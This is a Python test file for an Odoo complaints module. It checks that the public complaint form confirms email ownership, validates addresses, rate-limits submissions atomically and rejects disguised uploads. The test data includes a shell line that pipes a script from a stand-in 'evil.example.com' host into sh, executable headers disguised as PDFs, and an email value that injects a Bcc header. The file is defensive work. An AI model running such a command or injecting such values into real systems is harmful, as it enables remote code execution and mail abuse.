# Copyright 2026 ISO 10002 for Odoo contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Intake security (issue 11, findings 15 to 17), over real HTTP.

15: an email typed on the public form never attaches a complaint to an
existing contact (nor changes it) until the owner of the address confirms;
the public quota is apart from the portal's; the rate limit is atomic.
16: one valid, normalised address per complaint on every channel; nothing
is mailed to an invalid one.
17: files are judged by their content, on every route a complainant uses.
"""

import base64
import contextlib
import hashlib
import io
import re
import threading
import time
import zipfile
from datetime import timedelta
from unittest.mock import patch

from odoo import SUPERUSER_ID, api, fields
from odoo.exceptions import UserError, ValidationError
from odoo.tests import TransactionCase, tagged

from odoo.addons.iso10002_complaints.tests.common import run_pending_jobs
from odoo.addons.iso10002_complaints.tests.rpc_common import JsonRpcMixin
from odoo.addons.iso10002_complaints.tests.test_intake_common import (
    CSRF_RE,
    PDF_BYTES,
    PNG_BYTES,
    IntakeHttpCommon,
)
from odoo.addons.iso10002_complaints.tests.test_intake_email import (
    INCOMING,
    MailIntakeCase,
)

CONFIRM_LINK_RE = re.compile(r'href="[^"]*(/complaints/confirm/([\w-]+))"')
ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"\x80\x00\x00\x00PE\x00\x00"
SHELL_BYTES = b"#!/bin/sh\ncurl -s http://evil.example.com/x | sh\n"
BAD_EMAILS = (
    "victim@x.com\r\nBcc: all@x.com",
    "a@b",
    "x" * 290 + "@example.com",
)


def _docx_bytes(folder="word/"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{folder}document.xml", "<document/>")
    return buffer.getvalue()


@tagged("post_install", "-at_install")
class TestIntakeSecurityForms(JsonRpcMixin, IntakeHttpCommon):
    # ------------------------------------------------------------------
    # Finding 15
    # ------------------------------------------------------------------
    def _confirm_mail(self, complaint):
        return (
            self.env["mail.mail"]
            .search([("email_to", "=", complaint.partner_email)])
            .filtered(
                lambda m: (
                    complaint.complaint_ref in m.subject
                    and "/complaints/confirm/" in str(m.body_html)
                )
            )
        )

    def _file_in_owners_name(self, **values):
        values.setdefault("name", "Mallory Impostor")
        values.setdefault("phone", "+1 555 0000")
        response = self._post_public(email="Paula.Portal@Example.com", **values)
        self.assertEqual(response.status_code, 303, response.text[:500])
        # the acknowledgement job the request triggered
        run_pending_jobs(self.env)
        return self._complaints(name=values.get("subject", "Broken kettle"))

    def test_finding_15_existing_contact_not_attached_until_confirmed(self):
        owner = self.portal_user.partner_id
        owner.phone = False
        older = self.env["res.partner"].create(
            {"name": "Paula (old card)", "email": "paula.portal@example.com"}
        )
        complaint = self._file_in_owners_name()
        self.assertEqual(len(complaint), 1)
        # stored and numbered at once, acknowledged to the typed address
        self.assertTrue(complaint.complaint_ref)
        self.assertEqual(complaint.partner_email, "paula.portal@example.com")
        ack = complaint.message_ids.filtered(
            lambda m: m.subject and "We received your complaint" in m.subject
        )
        self.assertEqual(len(ack), 1)
        # ... but it belongs to a contact of its own, not to the owner's
        self.assertTrue(complaint.intake_unconfirmed)
        self.assertNotIn(complaint.partner_id, owner | older)
        self.assertEqual(complaint.partner_id, complaint.intake_partner_id)
        self.assertFalse(complaint.partner_id.user_ids)
        self.assertNotIn(owner, complaint.message_partner_ids)
        self.assertNotIn(owner, ack.partner_ids)
        # the existing contacts are unchanged (no phone, no name written)
        self.assertFalse(owner.phone)
        self.assertEqual(owner.name, "Paula Portal")
        self.assertEqual(older.name, "Paula (old card)")
        # the owner does not see it in their portal
        self._login(self.portal_user)
        self.assertNotIn(complaint.complaint_ref, self.url_open("/my/complaints").text)
        page = self.url_open(f"/my/complaint/{complaint.id}", allow_redirects=False)
        self.assertEqual(page.status_code, 303)
        self.assertFalse(
            self.Ticket.with_user(self.portal_user).search([("id", "=", complaint.id)])
        )
        # a confirmation link went to the typed address, by mail only
        mail = self._confirm_mail(complaint)
        self.assertEqual(len(mail), 1)
        self.assertEqual(mail.email_to, "paula.portal@example.com")
        self.assertFalse(mail.recipient_ids)
        token = CONFIRM_LINK_RE.search(str(mail.body_html)).group(2)
        self.assertFalse(mail.model or mail.res_id)
        self.assertFalse(
            complaint.message_ids.filtered(lambda m: token in str(m.body)),
            "the link is never in the chatter",
        )

    def test_finding_15_confirmation_link_attaches_it_once(self):
        owner = self.portal_user.partner_id
        # a contact without an account has the address too: the one with a
        # portal account is chosen
        self.env["res.partner"].create(
            {"name": "Paula (old card)", "email": "paula.portal@example.com"}
        )
        complaint = self._file_in_owners_name()
        stand_in = complaint.partner_id
        url = CONFIRM_LINK_RE.search(
            str(self._confirm_mail(complaint).body_html)
        ).group(1)
        self.authenticate(None, None)
        # opening the link (e.g. a mail scanner) only asks
        page = self.url_open(url)
        self.assertEqual(page.status_code, 200)
        self.assertIn("Is this complaint yours?", page.text)
        self.assertIn(complaint.complaint_ref, page.text)
        self.assertTrue(complaint.intake_unconfirmed)
        csrf = CSRF_RE.search(page.text).group(1)
        # the POST needs the page's CSRF token
        response = self.url_open(url, data={"csrf_token": "forged"})
        self.assertNotEqual(response.status_code, 200)
        self.assertTrue(complaint.intake_unconfirmed)
        response = self.url_open(url, data={"csrf_token": csrf})
        self.assertEqual(response.status_code, 200, response.text[:500])
        self.assertIn("your complaint is confirmed", response.text)
        complaint.invalidate_recordset()
        self.assertEqual(complaint.partner_id, owner)
        self.assertFalse(complaint.intake_unconfirmed)
        self.assertIn(owner, complaint.message_partner_ids)
        self.assertNotIn(stand_in, complaint.message_partner_ids)
        self.assertFalse(stand_in.active)
        self.assertEqual(complaint.intake_partner_id, stand_in)
        self.assertEqual(owner.name, "Paula Portal")
        # single use
        again = self.url_open(url, data={"csrf_token": csrf})
        self.assertEqual(again.status_code, 404)
        self.assertIn("not valid, or was already", again.text)
        self.assertEqual(self.url_open(url).status_code, 404)
        # and now in the owner's portal
        self._login(self.portal_user)
        self.assertIn(complaint.complaint_ref, self.url_open("/my/complaints").text)

    def test_finding_15_confirmation_link_expires(self):
        complaint = self._file_in_owners_name()
        url = CONFIRM_LINK_RE.search(
            str(self._confirm_mail(complaint).body_html)
        ).group(1)
        complaint.intake_confirm_deadline = fields.Datetime.now() - timedelta(minutes=1)
        self.authenticate(None, None)
        page = self.url_open(url)
        self.assertEqual(page.status_code, 404)
        self.assertIn("has expired", page.text)
        self.assertNotIn(complaint.complaint_ref, page.text)
        self.assertEqual(self.url_open("/complaints/confirm/forged").status_code, 404)
        _complaint, state = self.Ticket._iso_intake_find_by_token(url.split("/")[-1])
        self.assertEqual(state, "expired")
        self.assertNotEqual(complaint.partner_id, self.portal_user.partner_id)
        # the complaints manager sends a new link; the old one stays dead
        complaint.with_user(self.manager).action_iso_resend_intake_confirmation()
        links = {
            CONFIRM_LINK_RE.search(str(mail.body_html)).group(1)
            for mail in self._confirm_mail(complaint)
        }
        self.assertEqual(len(links), 2)
        new_url = (links - {url}).pop()
        self.assertEqual(self.url_open(url).status_code, 404)
        self.assertEqual(self.url_open(new_url).status_code, 200)

    def test_finding_15_public_quota_apart_from_the_portal(self):
        params = self.env["ir.config_parameter"].sudo()
        params.set_param("iso10002_complaints.intake_rate_limit_email", 2)
        for index in range(2):
            self._file_in_owners_name(subject=f"Impostor {index}")
        response = self._post_public(email=self.portal_user.email, subject="Third")
        self.assertEqual(response.status_code, 429)
        # the real person still files from their portal
        self._login(self.portal_user)
        response = self._post_portal(subject="My own complaint")
        self.assertEqual(response.status_code, 303, response.text[:500])
        self.assertEqual(
            self._complaints(name="My own complaint").partner_id,
            self.portal_user.partner_id,
        )

    # ------------------------------------------------------------------
    # Finding 16
    # ------------------------------------------------------------------
    def _jsonrpc(self, method, args, kwargs=None):
        return self._jsonrpc_call("helpdesk.ticket", method, args, kwargs)

    def test_finding_16_bad_partner_email_refused_over_jsonrpc(self):
        self._login(self.manager)
        mails_before = self.env["mail.mail"].search_count([])
        values = {
            "name": "Injected",
            "description": "<p>x</p>",
            "team_id": self.team.id,
        }
        for email in BAD_EMAILS:
            payload = self._jsonrpc("create", [dict(values, partner_email=email)])
            self.assertIn("error", payload, email)
            error = payload["error"]["data"]
            self.assertEqual(error["name"], "odoo.exceptions.ValidationError")
            self.assertIn("is not a valid email address", error["message"])
        self.assertFalse(self._complaints(name="Injected"))
        self.assertFalse(
            self.env["res.partner"].search(
                [("email_normalized", "in", ("victim@x.com", "all@x.com"))]
            )
        )
        self.assertEqual(self.env["mail.mail"].search_count([]), mails_before)
        # a valid address is stored normalised
        payload = self._jsonrpc(
            "create", [dict(values, partner_email=" Carla.Guest@Example.COM")]
        )
        complaint = self.Ticket.browse(payload["result"])
        self.assertEqual(complaint.partner_email, "carla.guest@example.com")
        for email in BAD_EMAILS:
            payload = self._jsonrpc("write", [complaint.ids, {"partner_email": email}])
            error = payload["error"]["data"]
            self.assertEqual(error["name"], "odoo.exceptions.ValidationError")
        complaint.invalidate_recordset()
        self.assertEqual(complaint.partner_email, "carla.guest@example.com")
        # plain tickets keep helpdesk_mgmt's free text
        plain_team = self.env["helpdesk.ticket.team"].create({"name": "Plain"})
        payload = self._jsonrpc(
            "create",
            [dict(values, team_id=plain_team.id, partner_email="Someone <a@b>")],
        )
        self.assertIn("result", payload)

    def test_finding_16_no_mail_to_an_invalid_address(self):
        partner = self.env["res.partner"].create({"name": "Broken", "email": "a@b"})
        complaint = self._new_complaint(partner)
        self.assertFalse(complaint._iso_has_email())
        self.assertFalse(complaint.ack_pending)
        self.assertFalse(complaint.ack_date)
        mails = self.env["mail.mail"].search([("model", "=", "helpdesk.ticket")])
        self.assertFalse(
            mails.filtered(
                lambda m: (
                    m.res_id == complaint.id
                    and ("a@b" in (m.email_to or "") or partner in m.recipient_ids)
                )
            )
        )
        with self.assertRaisesRegex(UserError, "no email address to acknowledge"):
            complaint.action_send_acknowledgement()

    # ------------------------------------------------------------------
    # Finding 17
    # ------------------------------------------------------------------
    def _assert_refused(self, response, name):
        self.assertEqual(response.status_code, 400, name)
        self.assertIn(name, response.text)
        self.assertFalse(self.env["ir.attachment"].search([("name", "=", name)]))

    def test_finding_17_programs_renamed_pdf_refused_on_public_form(self):
        for index, content in enumerate((ELF_BYTES, PE_BYTES, SHELL_BYTES)):
            name = f"invoice{index}.pdf"
            response = self._post_public(
                files=[("attachments", (name, content, "application/pdf"))]
            )
            self._assert_refused(response, name)
        # not what the name says, though harmless: refused too
        for name, content in (
            ("photo.png", PDF_BYTES),
            ("letter.docx", _docx_bytes("xl/")),
            ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
        ):
            response = self._post_public(
                files=[("attachments", (name, content, "application/octet-stream"))]
            )
            self._assert_refused(response, name)
            self.assertIn("is not a real", response.text)
        self.assertFalse(self._complaints(name="Broken kettle"))

    def test_finding_17_real_files_accepted(self):
        response = self._post_public(
            files=[
                ("attachments", ("receipt.pdf", PDF_BYTES, "application/pdf")),
                ("attachments", ("photo.png", PNG_BYTES, "image/png")),
                ("attachments", ("letter.docx", _docx_bytes(), "application/zip")),
            ]
        )
        self.assertEqual(response.status_code, 303, response.text[:1000])
        attachments = self._complaints(name="Broken kettle").message_ids.attachment_ids
        self.assertEqual(
            sorted(attachments.mapped("name")),
            ["letter.docx", "photo.png", "receipt.pdf"],
        )
        self.assertEqual(
            attachments.filtered(lambda a: a.name == "receipt.pdf").mimetype,
            "application/pdf",
        )

    def test_finding_17_portal_form_and_messages(self):
        self._login(self.portal_user)
        response = self._post_portal(
            files=[("attachments", ("scan.pdf", ELF_BYTES, "application/pdf"))]
        )
        self._assert_refused(response, "scan.pdf")
        complaint = self._new_complaint(self.portal_user.partner_id)
        page = self.url_open(f"/my/complaint/{complaint.id}")
        csrf = CSRF_RE.search(page.text).group(1)
        response = self.url_open(
            f"/my/complaint/{complaint.id}/message",
            data={"csrf_token": csrf, "note": "My receipt"},
            files=[("attachments", ("receipt.pdf", ELF_BYTES, "application/pdf"))],
            allow_redirects=False,
        )
        self._assert_refused(response, "receipt.pdf")
        response = self.url_open(
            f"/my/complaint/{complaint.id}/message",
            data={"csrf_token": csrf, "note": "My receipt"},
            files=[("attachments", ("receipt.pdf", PDF_BYTES, "application/pdf"))],
            allow_redirects=False,
        )
        self.assertEqual(response.status_code, 303)
        self.assertEqual(
            complaint.message_ids[0].attachment_ids.mapped("name"), ["receipt.pdf"]
        )

    def test_finding_17_chatter_upload_route(self):
        complaint = self._new_complaint(self.portal_user.partner_id)
        self._login(self.portal_user)
        page = self.url_open(f"/my/complaint/{complaint.id}")
        csrf = CSRF_RE.search(page.text).group(1)

        def upload(name, content, **extra):
            return self.url_open(
                "/mail/attachment/upload",
                data={
                    "csrf_token": csrf,
                    "thread_id": str(complaint.id),
                    "thread_model": "helpdesk.ticket",
                    "token": complaint.access_token,
                    **extra,
                },
                files={"ufile": (name, content, "application/pdf")},
            )

        attachments = self.env["ir.attachment"]
        response = upload("tool.pdf", ELF_BYTES)
        self.assertNotEqual(response.status_code, 200)
        self.assertFalse(attachments.search([("name", "=", "tool.pdf")]))
        # pending upload, attached when the message is posted
        response = upload("script.pdf", SHELL_BYTES, is_pending="true")
        self.assertEqual(response.status_code, 200, response.text[:500])
        attachment = attachments.browse(response.json()["data"]["attachment_id"])
        self.assertEqual(attachment.res_model, "mail.compose.message")
        with self.assertRaisesRegex(ValidationError, "script.pdf"):
            # as mail's _process_attachments_for_post does when it is posted
            attachment.with_user(self.portal_user).sudo().write(
                {"res_model": "helpdesk.ticket", "res_id": complaint.id}
            )
        response = upload("real.pdf", PDF_BYTES)
        self.assertEqual(response.status_code, 200, response.text[:500])
        attachment = attachments.search([("name", "=", "real.pdf")])
        self.assertEqual(attachment.res_id, complaint.id)
        self.assertEqual(attachment.mimetype, "application/pdf")


@tagged("post_install", "-at_install")
class TestIntakeSecurityAlias(MailIntakeCase):
    alias_domain_name = "iso-security.example.com"
    alias_name = "iso-security-test"
    team_name = "Complaints by mail (security)"
    leader_values = {
        "login": "iso_security_leader",
        "email": "leader.security@example.com",
    }

    def _process(self, sender, sender_email, uid="1"):
        message = INCOMING.format(
            sender=sender,
            sender_email=sender_email,
            to=self.to,
            subject="Flooded kitchen",
            message_id=f"<security-{uid}@customer.example.com>",
            extra="",
            uid=uid,
        )
        with self.mock_mail_gateway():
            ticket_id = self.env["mail.thread"].sudo().message_process(None, message)
        return self.env["helpdesk.ticket"].browse(ticket_id)

    def test_finding_16_alias_email_from_a_bad_sender(self):
        partners_before = self.env["res.partner"].search_count([])
        complaint = self._process('"Dodgy" <dodgy@localhost>', "dodgy@localhost")
        # the complaint is never lost, but nothing goes to that address
        self.assertTrue(complaint.is_complaint)
        self.assertFalse(complaint.partner_email)
        self.assertFalse(complaint.partner_id)
        self.assertEqual(self.env["res.partner"].search_count([]), partners_before)
        self.assertFalse(complaint.ack_date)
        self.assertFalse(
            self.env["mail.mail"].search([("email_to", "ilike", "dodgy@localhost")])
        )
        # a good sender is kept as one normalised address
        complaint = self._process(
            '"Walter White" <Walter.White@Customer.Example.com>',
            "walter.white@customer.example.com",
            uid="2",
        )
        self.assertEqual(complaint.partner_email, "walter.white@customer.example.com")
        self.assertEqual(
            complaint.partner_id.email, "walter.white@customer.example.com"
        )

    def test_finding_17_alias_email_with_a_program_renamed_pdf(self):
        program = base64.b64encode(ELF_BYTES).decode()
        message = INCOMING.format(
            sender='"Walter White" <walter.white@customer.example.com>',
            sender_email="walter.white@customer.example.com",
            to=self.to,
            subject="Flooded kitchen",
            message_id="<security-3@customer.example.com>",
            extra="",
            uid="3",
        ).replace(
            "--==BOUNDARY==--",
            "--==BOUNDARY==\n"
            'Content-Type: application/pdf; name="invoice.pdf"\n'
            'Content-Disposition: attachment; filename="invoice.pdf"\n'
            "Content-Transfer-Encoding: base64\n\n"
            f"{program}\n\n--==BOUNDARY==--",
        )
        with self.mock_mail_gateway():
            ticket_id = self.env["mail.thread"].sudo().message_process(None, message)
        complaint = self.env["helpdesk.ticket"].browse(ticket_id)
        self.assertEqual(
            complaint.message_ids.attachment_ids.mapped("name"), ["delivery-note.pdf"]
        )
        self.assertFalse(
            self.env["ir.attachment"].search([("name", "=", "invoice.pdf")])
        )
        note = complaint.message_ids.filtered(
            lambda m: "Files of the email left out" in str(m.body)
        )
        self.assertIn("invoice.pdf", str(note.body))
        self.assertTrue(note.is_internal or note.subtype_id.internal)


@tagged("post_install", "-at_install")
class TestIntakeRateLimitAtomic(TransactionCase):
    """Workers racing on one rate-limit key, each request in a real
    transaction of its own (the test's cursor never sees their commits):
    the limit holds, and no submission fails on it."""

    def _env(self, cr):
        return api.Environment(cr, SUPERUSER_ID, {})

    @contextlib.contextmanager
    def _limits(self, **limits):
        limits = dict(
            {
                "intake_rate_window_minutes": 60,
                "intake_rate_limit_ip": 0,
                "intake_rate_limit_email": 0,
                "intake_duplicate_seconds": 120,
                "intake_log_retention_days": 30,
            },
            **limits,
        )
        log_class = type(self.env["iso10002.complaint.intake.log"])
        with patch.object(log_class, "_iso_limit", lambda _self, key: limits[key]):
            yield

    def _forget(self, keys, ip_address=None):
        """Remove what the workers committed."""
        with self.registry.cursor() as cr:
            env = self._env(cr)
            if ip_address:
                env["iso10002.complaint.intake.log"].search(
                    [("ip_address", "=", ip_address)]
                ).unlink()
            hashes = [hashlib.sha256(key.encode()).hexdigest() for key in keys]
            env["iso10002.complaint.intake.throttle"].search(
                [("key", "in", hashes)]
            ).unlink()

    def test_finding_15_rate_limit_is_atomic(self):
        email = f"race.{time.time_ns()}@example.com"
        self.addCleanup(
            self._forget, [f"email:public:{email}", f"email:public:other.{email}"]
        )
        with (
            self._limits(intake_rate_limit_email=1),
            self.registry.cursor() as cr_first,
            self.registry.cursor() as cr_second,
        ):
            # two requests under way, their snapshots taken before either
            # submission is decided
            cr_first.execute("SELECT 1")
            cr_second.execute("SELECT 1")
            cr_second.execute("SET LOCAL lock_timeout TO '5s'")
            first = self._env(cr_first)["iso10002.complaint.intake.log"]
            second = self._env(cr_second)["iso10002.complaint.intake.log"]
            self.assertFalse(first._iso_rate_limited(email=email))
            # the first request is still open: the second one neither waits
            # for it nor counts with a stale view, nor fails: the place is
            # taken
            self.assertEqual(second._iso_rate_limited(email=email), "email")
            # the first request then fails: its submission still counts
            cr_first.rollback()
            cr_second.rollback()
            with self.registry.cursor() as cr_third:
                third = self._env(cr_third)["iso10002.complaint.intake.log"]
                self.assertEqual(third._iso_rate_limited(email=email), "email")
                # a limit not reached is not used by a refused submission
                self.assertFalse(third._iso_rate_limited(email=f"other.{email}"))

    def test_concurrent_submissions_on_one_key(self):
        """16 clients behind one address post at once (issue 14's load test:
        HTTP 500 once Odoo's retries ran out): exactly the allowed number
        pass and are stored, the others are refused, none fails."""
        clients, allowed = 16, 5
        ip_address = f"race-{time.time_ns()}"
        emails = [
            f"client.{index}.{ip_address}@example.com" for index in range(clients)
        ]
        self.addCleanup(
            self._forget,
            [f"ip::{ip_address}"] + [f"email:public:{email}" for email in emails],
            ip_address,
        )
        barrier = threading.Barrier(clients)
        outcomes, errors = {}, []

        def client(index):
            try:
                with self.registry.cursor() as cr:
                    cr.execute("SELECT 1")  # the request's snapshot
                    barrier.wait(30)
                    log = self._env(cr)["iso10002.complaint.intake.log"]
                    limited = log._iso_rate_limited(
                        ip_address=ip_address, email=emails[index]
                    )
                    outcomes[index] = limited
                    if not limited:
                        # what the request then stores, committed on exit
                        self.assertTrue(
                            log._iso_register(
                                log._iso_fingerprint(emails[index]),
                                {
                                    "ip_address": ip_address,
                                    "email": emails[index],
                                    "channel": "public",
                                },
                            )
                        )
            except Exception as error:  # noqa: BLE001 - reported below
                errors.append(repr(error))

        with self._limits(intake_rate_limit_ip=allowed, intake_rate_limit_email=5):
            threads = [
                threading.Thread(target=client, args=(index,))
                for index in range(clients)
            ]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join(60)
        self.assertFalse(any(thread.is_alive() for thread in threads))
        self.assertEqual(errors, [])
        self.assertEqual(len(outcomes), clients)
        self.assertEqual(list(outcomes.values()).count(False), allowed)
        self.assertEqual(list(outcomes.values()).count("ip"), clients - allowed)
        with self.registry.cursor() as cr:
            env = self._env(cr)
            stored = env["iso10002.complaint.intake.log"].search(
                [("ip_address", "=", ip_address)]
            )
            self.assertEqual(len(stored), allowed)
            self.assertEqual(
                sorted(stored.mapped("email")),
                sorted(emails[index] for index, o in outcomes.items() if not o),
            )
            counter = env["iso10002.complaint.intake.throttle"].search(
                [("key", "=", hashlib.sha256(f"ip::{ip_address}".encode()).hexdigest())]
            )
            self.assertEqual(counter.hits, allowed)
